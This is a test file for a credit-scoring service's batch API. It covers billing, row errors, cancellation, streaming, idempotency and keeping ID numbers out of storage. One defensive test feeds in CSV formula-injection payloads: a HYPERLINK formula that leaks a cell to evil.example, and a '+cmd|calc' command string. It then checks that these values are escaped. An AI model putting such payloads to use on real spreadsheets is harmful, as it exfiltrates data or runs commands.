import { issueKey, partner } from '../support/factories.js';
import { mobile, residentId } from '../support/people.js';
import { consentFor, DESIGN_BUREAU, DESIGN_CASH_FLOW, thinFileApplicant } from '../support/scoring.js';
import { createTestContext, type TestApp, type TestContext } from '../support/test-app.js';
import { dataSource, startBatchApp } from './support/batch-app.js';
import { csvResults, csvText, ndjsonResults, textParser, uploadCsv, uploadNdjson, waitForJob, type Auth } from './support/batch-helpers.js';
import { newId } from '../../src/common/ids.js';
import { BatchFinalizer } from '../../src/batch-scoring/processing/batch-finalizer.service.js';
import { emptySummary } from '../../src/batch-scoring/processing/batch-summary.js';

/** Batch scoring through the HTTP API, with the chunk processors in-process (small chunks: several per job). */
describe('batch scoring jobs', () => {
  let ctx: TestContext;
  let api: TestApp;
  let auth: Auth;

  beforeAll(async () => {
    ctx = await createTestContext();
    api = await startBatchApp(ctx, { batch: { chunkSize: 4 } });
    ({ auth } = await partner(api, ctx.adminToken, ['batch:write', 'scores:write', 'consents:write'], { kind: 'bank', plan: { rateLimitPerSecond: 1000 } }));
  });
  afterAll(async () => {
    await api?.close();
    await ctx.close();
  });

  it("bills a live job's scored rows, and none of a sandbox (test key) job's", async () => {
    const bank = await partner(api, ctx.adminToken, ['batch:write'], { kind: 'bank', plan: { rateLimitPerSecond: 1000 } });
    const sandbox = { authorization: `Bearer ${(await issueKey(api, ctx.adminToken, bank.tenant.id, ['batch:write'], 'test')).key}` };
    const rows = () => [residentId('19850101'), residentId('19900307'), residentId('19800515'), residentId('19750505'), '1234'].map((idNumber, i) => ({ externalRef: `r-${i}`, product: 'consumer', applicant: { idNumber } }));
    const billedUnits = async (jobId: string) =>
      (await dataSource(api).query<{ units: number }[]>(`SELECT coalesce(sum(units), 0)::int AS units FROM usage_events WHERE billable AND resource_id LIKE $1`, [`${jobId}:%`]))[0].units;
    const liveJob = (await uploadNdjson(api, bank.auth, rows())).body.id as string;
    const sandboxJob = (await uploadNdjson(api, sandbox, rows())).body.id as string;
    expect(await waitForJob(api, bank.auth, liveJob)).toMatchObject({ status: 'completed', processedRows: 5, failedRows: 1 });
    expect(await waitForJob(api, sandbox, sandboxJob)).toMatchObject({ status: 'completed', processedRows: 5, failedRows: 1 });
    expect(await billedUnits(liveJob)).toBe(4);
    expect(await billedUnits(sandboxJob)).toBe(0);
  });

  it('scores a CSV portfolio: 202 queued, then completed with counts, summary and results in row order', async () => {
    const ids = [residentId('19850101'), residentId('19900307'), residentId('19800515')];
    const csv = csvText(
      ['externalRef', 'product', 'applicant.idNumber', 'applicant.phone', 'bureau.debtRatio', 'bureau.monthlyIncome', 'cashFlow.monthlyRevenue', 'cashFlow.monthsTrading'],
      [
        ['loan-1', 'consumer', ids[0], mobile(), 0.3, '12000.00', '', ''],
        ['loan-2', 'consumer', ids[1], '', '', '', '', ''],
        ['"shop, 3"', 'merchant', ids[2], '', '', '', '42000.00;39000.00;45000.00', 30],
        ['loan-4', 'consumer', '1234', '', '', '', '', ''],
        ['loan-5', 'consumer', residentId(), 'not-a-phone', '', '', '', ''],
        ['loan-6', 'consumer', residentId(), '', 'lots', '', '', ''],
        ['loan-7', 'consumer', residentId(), '', '', '', '', ''],
      ],
    );
    const res = await uploadCsv(api, auth, csv, 'register-2026-11#7');
    expect(res.status).toBe(202);
    expect(res.headers['location']).toBe(`/v1/batch-scoring-jobs/${res.body.id}`);
    expect(res.body).toMatchObject({ status: 'queued', format: 'csv', totalRows: 7, consentAttestation: 'register-2026-11#7' });
    expect(res.body.id).toMatch(/^bat_[0-9A-Z]{26}$/);

    const job = await waitForJob(api, auth, res.body.id);
    expect(job).toMatchObject({ status: 'completed', totalRows: 7, processedRows: 7, failedRows: 3 });
    expect(job.startedAt).toEqual(expect.any(String));
    expect(job.finishedAt).toEqual(expect.any(String));
    expect(typeof job.rowsPerSecond).toBe('number');
    const s = job.summary;
    expect(s.scoredRows).toBe(4);
    expect(s.failedRows).toBe(3);
    expect(s.decisions.approve + s.decisions.review + s.decisions.decline).toBe(4);
    expect(Object.values(s.grades as Record<string, number>).reduce((a, b) => a + b, 0)).toBe(4);
    expect(s.creditScoreHistogram).toHaveLength(30);
    expect(s.creditScoreHistogram[0]).toEqual({ from: 300, to: 319, count: expect.any(Number) });
    expect(s.creditScoreHistogram[29]).toMatchObject({ from: 880, to: 900 });
    expect(s.creditScoreHistogram.reduce((a: number, b: { count: number }) => a + b.count, 0)).toBe(4);
    expect(typeof s.meanFraudScore).toBe('number');

    // Batch throughput for Prometheus: rows processed by all workers, from the chunks' ledger.
    const metrics = (await api.http().get('/metrics')).text;
    expect(Number(/batch_rows_total\{outcome="scored"\} (\d+)/.exec(metrics)?.[1])).toBeGreaterThanOrEqual(4);
    expect(Number(/batch_rows_total\{outcome="failed"\} (\d+)/.exec(metrics)?.[1])).toBeGreaterThanOrEqual(3);

    const rows = await csvResults(api, auth, res.body.id);
    expect(rows.map((r) => r.rowNumber)).toEqual(['1', '2', '3', '4', '5', '6', '7']);
    expect(rows.map((r) => r.externalRef)).toEqual(['loan-1', 'loan-2', 'shop, 3', 'loan-4', 'loan-5', 'loan-6', 'loan-7']);
    expect(rows[0]).toMatchObject({ product: 'consumer', currency: 'CNY', modelVersion: expect.stringMatching(/^consumer-bureau@/) });
    expect(rows[1].modelVersion).toMatch(/^consumer-thin-file@/);
    expect(rows[2].modelVersion).toMatch(/^merchant-cashflow@/);
    expect(rows[0].creditLimit).toMatch(/^\d+\.\d{2}$/);
    expect(rows[0].aprPercent).toMatch(/^\d+\.\d{2}$/);
    expect(rows[0].reasons).toMatch(/^C\d\d(;C\d\d)*$/);
    expect(rows[3]).toMatchObject({ 'error.field': 'applicant.idNumber', error: `applicant.idNumber: ${rows[3]['error.message']}`, creditScore: '' });
    expect(rows[0].error).toBe('');
    expect(rows[4]).toMatchObject({ 'error.field': 'applicant.phone' });
    expect(rows[5]).toMatchObject({ 'error.field': 'bureau.debtRatio' });
    expect(rows[6].creditScore).toMatch(/^\d+$/);
  });

  it('scores NDJSON rows with credit fields equal to POST /v1/scores for the same applicant', async () => {
    const thin = residentId('19900307');
    const bureau = residentId('19850101');
    const owner = residentId('19800515');
    const bodies = [
      thinFileApplicant(thin, await consentFor(api, auth, { idNumber: thin })),
      { ...thinFileApplicant(bureau, await consentFor(api, auth, { idNumber: bureau })), bureau: DESIGN_BUREAU },
      {
        consentId: await consentFor(api, auth, { idNumber: owner }),
        product: 'merchant',
        applicant: { idNumber: owner },
        application: { amount: '50000.00', currency: 'CNY', termMonths: 12, purpose: 'working_capital' },
        cashFlow: DESIGN_CASH_FLOW,
      },
    ];
    const realTime = [];
    for (const body of bodies) {
      const res = await api.http().post('/v1/scores').set(auth).send(body);
      expect(res.status).toBe(201);
      realTime.push(res.body);
    }
    const lines = bodies.map(({ consentId: _consentId, ...rest }, i) => ({ ...rest, externalRef: `same-${i}` }));
    const upload = await uploadNdjson(api, auth, lines);
    expect(upload.status).toBe(202);
    expect(upload.body.format).toBe('ndjson');
    await waitForJob(api, auth, upload.body.id);

    const results = await ndjsonResults(api, auth, upload.body.id);
    expect(results).toHaveLength(3);
    for (const [i, line] of results.entries()) {
      const score = realTime[i];
      expect(line.rowNumber).toBe(i + 1);
      expect(line.externalRef).toBe(`same-${i}`);
      const credit = (x: Record<string, unknown>) => ({
        product: x.product,
        creditScore: x.creditScore,
        grade: x.grade,
        decision: x.decision,
        decisionReasons: x.decisionReasons,
        creditLimit: x.creditLimit,
        currency: x.currency,
        aprPercent: x.aprPercent,
        reasons: x.reasons,
        modelVersion: x.modelVersion,
      });
      expect(credit(line)).toEqual(credit(score));
      // Fresh applicants: the real-time velocity rules do not fire either, so fraud agrees too.
      expect(line.fraudScore).toBe(score.fraudScore);
    }
    // The same rows as CSV: the same numbers, reasons as codes.
    const csv = await csvResults(api, auth, upload.body.id);
    expect(csv.map((r) => Number(r.creditScore))).toEqual(realTime.map((s) => s.creditScore));
    expect(csv.map((r) => r.reasons)).toEqual(realTime.map((s) => s.reasons.map((r: { code: string }) => r.code).join(';')));
    // Reason texts follow Accept-Language.
    const zh = await ndjsonResults(api, auth, upload.body.id, 'zh-CN');
    expect(zh[0].reasons.map((r: { code: string }) => r.code)).toEqual(results[0].reasons.map((r: { code: string }) => r.code));
    if (results[0].reasons.length > 0) expect(zh[0].reasons[0].text).not.toBe(results[0].reasons[0].text);
  });

  it('does not feed the fraud velocity counters: a portfolio review is not an application', async () => {
    const idNumber = residentId('19910101');
    const lines = Array.from({ length: 12 }, (_, i) => ({ externalRef: `again-${i}`, product: 'consumer', applicant: { idNumber, deviceId: 'd-1' } }));
    const upload = await uploadNdjson(api, auth, lines);
    await waitForJob(api, auth, upload.body.id);
    const res = await api.http().post('/v1/scores').set(auth).send(thinFileApplicant(idNumber, await consentFor(api, auth, { idNumber })));
    expect(res.status).toBe(201);
    expect(res.body.fraudReasons.map((r: { code: string }) => r.code)).not.toEqual(expect.arrayContaining(['F01']));
    expect(res.body.fraudReasons.map((r: { code: string }) => r.code)).not.toEqual(expect.arrayContaining(['F02']));
  });

  it('gives bad rows a row-level error ({field, message}) without stopping the job', async () => {
    const good = { product: 'consumer', applicant: { idNumber: residentId() } };
    const lines: unknown[] = [
      { ...good, externalRef: 'ok-1' },
      '{"product": "consumer", "applicant": {',
      { ...good, externalRef: 'x-unknown', colour: 'blue' },
      { ...good, externalRef: 'x-consent', consentId: 'cns_01JD3Q6Z5V7Y8X9W0A1B2C3D4E' },
      { externalRef: 'x-product', product: 'car', applicant: good.applicant },
      { externalRef: 'x-merchant', product: 'merchant', applicant: good.applicant },
      { externalRef: 'x-amount', product: 'consumer', applicant: good.applicant, application: { amount: '12', currency: 'CNY', termMonths: 12 } },
      { externalRef: 'x-type', product: 'consumer', applicant: good.applicant, bureau: { pastDue90Plus: 'two' } },
      { externalRef: 'x-range', product: 'consumer', applicant: good.applicant, behaviour: { returnRate: 3 } },
      { externalRef: 'ok-consumer-cashflow', product: 'consumer', applicant: good.applicant, cashFlow: DESIGN_CASH_FLOW },
      [1, 2, 3],
      { ...good, externalRef: 'ok-2' },
    ];
    const upload = await uploadNdjson(api, auth, lines);
    expect(upload.status).toBe(202);
    const job = await waitForJob(api, auth, upload.body.id);
    expect(job).toMatchObject({ status: 'completed', totalRows: 12, processedRows: 12, failedRows: 9 });
    const results = await ndjsonResults(api, auth, upload.body.id);
    const errorOf = (i: number) => results[i].error as { field: string; message: string } | undefined;
    expect(results.map((r) => r.rowNumber)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]);
    expect(results[0].creditScore).toEqual(expect.any(Number));
    expect(errorOf(1)).toEqual({ field: 'row', message: expect.stringMatching(/JSON/) });
    expect(errorOf(2)).toMatchObject({ field: 'colour' });
    expect(errorOf(3)).toMatchObject({ field: 'consentId' });
    expect(errorOf(4)).toMatchObject({ field: 'product' });
    expect(errorOf(5)).toMatchObject({ field: 'cashFlow' });
    expect(errorOf(6)).toMatchObject({ field: 'application.amount' });
    expect(errorOf(7)).toMatchObject({ field: 'bureau.pastDue90Plus' });
    expect(errorOf(8)).toMatchObject({ field: 'behaviour.returnRate' });
    // A consumer row may carry cashFlow (DESIGN §3's example does): it is scored without it.
    expect(results[9]).toMatchObject({ externalRef: 'ok-consumer-cashflow', creditScore: expect.any(Number) });
    expect(errorOf(9)).toBeUndefined();
    expect(errorOf(10)).toMatchObject({ field: 'row' });
    expect(results[11].externalRef).toBe('ok-2');
    for (const i of [2, 3, 4, 5, 6, 7, 8]) expect(results[i].externalRef).toMatch(/^x-/);
    for (const i of [1, 2, 3, 4, 5, 6, 7, 8, 10]) expect(errorOf(i)!.message).toEqual(expect.any(String));
  });

  it('CSV results never hand a spreadsheet a formula: uploaded text starting with = + - @ gets a leading quote', async () => {
    const applicant = { idNumber: residentId() };
    const refs = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(1+1)', 'plain-1'];
    const lines = [...refs.map((externalRef) => ({ product: 'consumer', applicant, externalRef })), { product: 'consumer', applicant, externalRef: 'x', '=cmd': 1 }];
    const upload = await uploadNdjson(api, auth, lines);
    await waitForJob(api, auth, upload.body.id);
    const csv = await csvResults(api, auth, upload.body.id);
    expect(csv.slice(0, 5).map((r) => r.externalRef)).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+cmd|calc", "'-2+3", "'@SUM(1+1)", 'plain-1']);
    expect(csv[5]).toMatchObject({ 'error.field': "'=cmd", error: expect.stringMatching(/^'=cmd: /) });
    // NDJSON is data, not a spreadsheet: the text comes back as uploaded.
    const ndjson = await ndjsonResults(api, auth, upload.body.id);
    expect(ndjson.slice(0, 5).map((r) => r.externalRef)).toEqual(refs);
  });

  it('accepts a multipart file part, and serves the CSV template', async () => {
    const template = await api.http().get('/v1/batch-scoring-jobs/template.csv').set(auth).buffer(true).parse(textParser);
    expect(template.status).toBe(200);
    expect(template.headers['content-type']).toMatch(/^text\/csv/);
    const [header] = (template.body as string).split('\r\n');
    expect(header.split(',')).toEqual(expect.arrayContaining(['externalRef', 'product', 'applicant.idNumber', 'bureau.debtRatio', 'cashFlow.monthlyRevenue']));

    // The template itself is a valid upload (its example rows score).
    const res = await api
      .http()
      .post('/v1/batch-scoring-jobs?consentAttestation=register%231')
      .set(auth)
      .attach('file', Buffer.from(template.body as string), { filename: 'portfolio.csv', contentType: 'text/csv' });
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({ format: 'csv', totalRows: 2 });
    const job = await waitForJob(api, auth, res.body.id);
    expect(job).toMatchObject({ status: 'completed', failedRows: 0 });

    const ndjson = await api
      .http()
      .post('/v1/batch-scoring-jobs?consentAttestation=register%231')
      .set(auth)
      .attach('file', Buffer.from(`${JSON.stringify({ product: 'consumer', applicant: { idNumber: residentId() } })}\n`), { filename: 'rows.ndjson' });
    expect(ndjson.status).toBe(202);
    expect(ndjson.body.format).toBe('ndjson');
  });

  it('cancels a running job: its answer is final (chunks not yet written are dropped unbilled), the staged rows are dropped, a finished job answers 409', async () => {
    const lines = Array.from({ length: 2000 }, (_, i) => ({ externalRef: `c-${i}`, product: 'consumer', applicant: { idNumber: residentId() } }));
    const upload = await uploadNdjson(api, auth, lines);
    expect(upload.status).toBe(202);
    await waitForJob(api, auth, upload.body.id, 10_000, ['running', 'completed']);
    const cancel = await api.http().post(`/v1/batch-scoring-jobs/${upload.body.id}/cancel`).set(auth);
    expect(cancel.status).toBe(200);
    expect(cancel.body.status).toBe('cancelled');
    // Chunks that had not committed by the cancel are dropped: the counts then stay put.
    const settle = async () => {
      let last = -1;
      for (;;) {
        await new Promise((r) => setTimeout(r, 300));
        const now = (await api.http().get(`/v1/batch-scoring-jobs/${upload.body.id}`).set(auth)).body;
        if (now.processedRows === last) return now;
        last = now.processedRows;
      }
    };
    const settled = await settle();
    expect(settled.status).toBe('cancelled');
    expect(settled.processedRows).toBeLessThan(2000);
    expect(settled.processedRows % 4).toBe(0); // whole chunks only
    expect({ processedRows: settled.processedRows, failedRows: settled.failedRows }).toEqual({ processedRows: cancel.body.processedRows, failedRows: cancel.body.failedRows });
    const [billed] = await dataSource(api).query<{ units: number }[]>(`SELECT coalesce(sum(units), 0)::int AS units FROM usage_events WHERE resource_id LIKE $1`, [`${upload.body.id}:%`]);
    expect(billed.units).toBe(cancel.body.processedRows - cancel.body.failedRows);
    // The rows scored before the cancel are summarised, like a completed job's.
    if (cancel.body.processedRows > 0) {
      const { scoredRows, failedRows, decisions } = cancel.body.summary;
      expect({ scoredRows, failedRows }).toEqual({ scoredRows: cancel.body.processedRows - cancel.body.failedRows, failedRows: cancel.body.failedRows });
      expect(decisions.approve + decisions.review + decisions.decline).toBe(scoredRows);
    } else {
      expect(cancel.body.summary).toBeNull();
    }
    expect(settled.summary).toEqual(cancel.body.summary);
    const results = await csvResults(api, auth, upload.body.id);
    expect(results).toHaveLength(settled.processedRows);
    const numbers = results.map((r) => Number(r.rowNumber));
    expect(numbers).toEqual([...numbers].sort((a, b) => a - b));
    expect(new Set(numbers).size).toBe(numbers.length);
    const table = `batch_input_${upload.body.id.toLowerCase()}`;
    const deadline = Date.now() + 15_000;
    const exists = async () => (await dataSource(api).query<{ t: string | null }[]>(`SELECT to_regclass($1) AS t`, [table]))[0].t !== null;
    while ((await exists()) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
    expect(await exists()).toBe(false);

    const done = await uploadNdjson(api, auth, [{ product: 'consumer', applicant: { idNumber: residentId() } }]);
    await waitForJob(api, auth, done.body.id);
    const late = await api.http().post(`/v1/batch-scoring-jobs/${done.body.id}/cancel`).set(auth);
    expect(late.status).toBe(409);
    expect(late.body.code).toBe('batch_job_finished');
  });

  it('streams the results of a running job with follow=true, in row order, to the last row', async () => {
    const lines = Array.from({ length: 400 }, (_, i) => ({ externalRef: `f-${i}`, product: 'consumer', applicant: { idNumber: residentId() } }));
    const upload = await uploadNdjson(api, auth, lines);
    const res = await api.http().get(`/v1/batch-scoring-jobs/${upload.body.id}/results?follow=true`).set(auth).set('accept', 'application/x-ndjson').buffer(true).parse(textParser);
    expect(res.status).toBe(200);
    const results = (res.body as string).split('\n').filter(Boolean).map((l) => JSON.parse(l) as { rowNumber: number; externalRef: string });
    expect(results.map((r) => r.rowNumber)).toEqual(lines.map((_, i) => i + 1));
    expect(results.map((r) => r.externalRef)).toEqual(lines.map((l) => l.externalRef));
    const csv = await api.http().get(`/v1/batch-scoring-jobs/${upload.body.id}/results?follow=true`).set(auth).set('accept', 'text/csv').buffer(true).parse(textParser);
    expect((csv.body as string).split('\n')[0]).toBe('rowNumber,externalRef,product,creditScore,fraudScore,grade,decision,decisionReasons,creditLimit,currency,aprPercent,reasons,fraudReasons,modelVersion,error,error.field,error.message');
    expect((csv.body as string).split('\n').filter(Boolean)).toHaveLength(401);
  });

  it('closes a job only after a chunk being written has committed, and counts it', async () => {
    const done = await uploadNdjson(api, auth, [{ product: 'consumer', applicant: { idNumber: residentId() } }]);
    await waitForJob(api, auth, done.body.id);
    // A job of one chunk that no worker knows about, copied from the finished one and reopened.
    const id = newId('bat');
    await dataSource(api).transaction(async (manager) => {
      await manager.query(`CREATE TEMP TABLE reopened ON COMMIT DROP AS SELECT * FROM batch_jobs WHERE id = $1`, [done.body.id]);
      await manager.query(`UPDATE reopened SET id = $1, status = 'running', chunk_count = 1, processed_rows = 0, failed_rows = 0, summary = NULL, finished_at = NULL`, [id]);
      await manager.query(`INSERT INTO batch_jobs SELECT * FROM reopened`);
    });
    // A chunk's write, as ChunkRunner makes it: gate row, then the job row under a share lock, then COMMIT.
    const chunk = dataSource(api).createQueryRunner();
    await chunk.connect();
    await chunk.startTransaction();
    await chunk.query(
      `INSERT INTO batch_chunks (job_id, chunk_index, tenant_id, first_row, last_row, scored_rows, failed_rows, summary, completed_at)
       SELECT id, 0, tenant_id, 1, 2, 2, 0, $2, now() FROM batch_jobs WHERE id = $1`,
      [id, JSON.stringify({ ...emptySummary(), scored: 2 })],
    );
    await chunk.query(`SELECT status FROM batch_jobs WHERE id = $1 FOR SHARE`, [id]);
    let finalized = false;
    const finalizing = api.app
      .get(BatchFinalizer)
      .finalize(id)
      .finally(() => (finalized = true));
    await new Promise((r) => setTimeout(r, 300));
    expect(finalized).toBe(false); // waiting for the chunk, not closing the job without it
    await chunk.commitTransaction();
    await chunk.release();
    expect(await finalizing).toEqual({ status: 'completed' });
    const [job] = await dataSource(api).query<{ status: string; processed_rows: number }[]>(`SELECT status, processed_rows FROM batch_jobs WHERE id = $1`, [id]);
    expect(job).toEqual({ status: 'completed', processed_rows: 2 });
  });

  it('lists jobs newest first with a cursor', async () => {
    const ids: string[] = [];
    for (let i = 0; i < 3; i++) ids.push((await uploadNdjson(api, auth, [{ product: 'consumer', applicant: { idNumber: residentId() } }])).body.id as string);
    const first = await api.http().get('/v1/batch-scoring-jobs?limit=2').set(auth);
    expect(first.status).toBe(200);
    expect(first.body.data.map((j: { id: string }) => j.id)).toEqual([ids[2], ids[1]]);
    expect(first.body.hasMore).toBe(true);
    const second = await api.http().get(`/v1/batch-scoring-jobs?limit=2&startingAfter=${first.body.nextCursor}`).set(auth);
    expect(second.body.data[0].id).toBe(ids[0]);
  });

  it('replays an upload retried with the same Idempotency-Key (one job)', async () => {
    const body = `${JSON.stringify({ product: 'consumer', applicant: { idNumber: residentId() } })}\n`;
    const send = () => uploadNdjson(api, auth, body).set('idempotency-key', `upload-${Date.now()}`);
    const key = `upload-${Date.now()}`;
    const first = await uploadNdjson(api, auth, body).set('idempotency-key', key);
    const again = await uploadNdjson(api, auth, body).set('idempotency-key', key);
    expect(first.status).toBe(202);
    expect(again.status).toBe(202);
    expect(again.headers['idempotent-replayed']).toBe('true');
    expect(again.body.id).toBe(first.body.id);
    expect((await send()).body.id).not.toBe(first.body.id);
  });

  it('keeps raw ID and phone numbers out of the database and the logs', async () => {
    const idNumber = residentId('19770707');
    const phone = mobile();
    const upload = await uploadCsv(api, auth, csvText(['externalRef', 'product', 'applicant.idNumber', 'applicant.phone'], [['pii-1', 'consumer', idNumber, phone]]));
    const job = await waitForJob(api, auth, upload.body.id);
    expect(job.status).toBe('completed');
    const db = dataSource(api);
    const tables: { table_name: string }[] = await db.query(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_name LIKE 'batch%'`);
    expect(tables.map((t) => t.table_name)).toEqual(expect.arrayContaining(['batch_jobs', 'batch_chunks', `batch_results_${upload.body.id.toLowerCase()}`]));
    for (const { table_name } of tables) {
      const rows: unknown[] = await db.query(`SELECT * FROM "${table_name}"`);
      const text = JSON.stringify(rows);
      expect(text).not.toContain(idNumber);
      expect(text).not.toContain(phone);
    }
    const logs = api.logs.text();
    expect(logs).not.toContain(idNumber);
    expect(logs).not.toContain(phone);
  });
});
